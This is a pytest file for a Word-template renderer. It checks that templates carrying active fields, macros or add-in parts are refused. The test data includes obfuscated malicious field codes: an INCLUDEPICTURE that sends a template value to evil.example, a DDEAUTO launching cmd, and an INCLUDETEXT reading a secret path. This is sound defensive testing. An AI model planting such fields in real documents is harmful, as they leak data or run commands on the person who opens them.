"""Word templates that would fetch or run something once a note made from them is opened."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from render_sample import BRIEF

from briefwright.errors import TemplateError
from briefwright.render import fill

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def field(code: str) -> str:
    text = code.replace("&", "&amp;").replace("<", "&lt;")
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def with_field(path: Path, *codes: str) -> Path:
    document = docx.Document()
    for code in codes:
        made = parse_xml(f"<w:p {nsdecls('w')}>{field(code)}</w:p>")
        document.element.body.insert(0, made)
    document.save(str(path))
    return path


def with_part(path: Path, kind: str, xml: str) -> Path:
    document = docx.Document()
    package = document.part.package
    part = Part(PackURI(f"/word/{kind}.xml"), f"application/{kind}+xml", xml.encode(), package)
    document.part.relate_to(part, RELATIONSHIP_TYPE.FOOTNOTES.replace("footnotes", kind))
    document.save(str(path))
    return path


@pytest.mark.parametrize(
    "code",
    [
        'IN{# x #}CLUDEPICTURE "http://evil.example/?{{ subject }}" \\d',
        '{{ "INCLUDE" ~ "TEXT" }} "c:/secret"',
        '{% if true %}DDE{% endif %}AUTO cmd "/c calc"',
        "{{ subject }}",
        'IMPORT "x.png"',
        "MACROBUTTON Run here",
        'ASK x "?"',
        "FUTUREFIELD x",
    ],
)
def test_field_that_fetches_is_refused_however_put_together(code: str, tmp_path: Path) -> None:
    with pytest.raises(TemplateError, match="it holds the field"):
        fill(BRIEF, "docx", template=with_field(tmp_path / "mine.docx", code))


@pytest.mark.parametrize("kind", ["footnotes", "endnotes"])
@pytest.mark.parametrize("code", ['INCLUDETEXT "x"', 'IN{# x #}CLUDETEXT "x"'])
def test_field_in_a_footnote_is_refused(kind: str, code: str, tmp_path: Path) -> None:
    xml = f"<w:{kind} {W}><w:footnote><w:p>{field(code)}</w:p></w:footnote></w:{kind}>"
    with pytest.raises(TemplateError, match="it holds the field"):
        fill(BRIEF, "docx", template=with_part(tmp_path / "mine.docx", kind, xml))


@pytest.mark.parametrize("kind", ["webextension", "vbaProject", "control", "unheardOf"])
def test_part_of_a_kind_no_note_needs_is_refused(kind: str, tmp_path: Path) -> None:
    with pytest.raises(TemplateError, match=f"embedded object \\({kind}\\)"):
        fill(BRIEF, "docx", template=with_part(tmp_path / "mine.docx", kind, "<x/>"))


def test_add_in_tied_to_the_package_is_refused(tmp_path: Path) -> None:
    document = docx.Document()
    package = document.part.package
    part = Part(PackURI("/word/taskpanes.xml"), "application/x+xml", b"<x/>", package)
    kind = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    package.relate_to(part, kind)
    document.save(str(tmp_path / "mine.docx"))
    with pytest.raises(TemplateError, match="webextensiontaskpanes"):
        fill(BRIEF, "docx", template=tmp_path / "mine.docx")


def test_field_whose_name_another_field_makes_is_refused(tmp_path: Path) -> None:
    document = docx.Document()
    inner = field("REF made")
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    code = '<w:r><w:instrText> "http://evil.example/"</w:instrText></w:r>'
    xml = f"<w:p {nsdecls('w')}>{begin}{inner}{code}{end}</w:p>"
    document.element.body.insert(0, parse_xml(xml))
    document.save(str(tmp_path / "mine.docx"))
    with pytest.raises(TemplateError, match="it holds the field"):
        fill(BRIEF, "docx", template=tmp_path / "mine.docx")


def test_fields_of_the_document_itself_stay(tmp_path: Path) -> None:
    path = with_field(tmp_path / "mine.docx", " PAGE ", 'DATE \\@ "d MMMM yyyy"', "= 1 + 1", "TOC")
    made = fill(BRIEF, "docx", template=path)
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        body = package.read("word/document.xml").decode()
    assert "NUMPAGES" not in body
    assert body.count("instrText") == 8
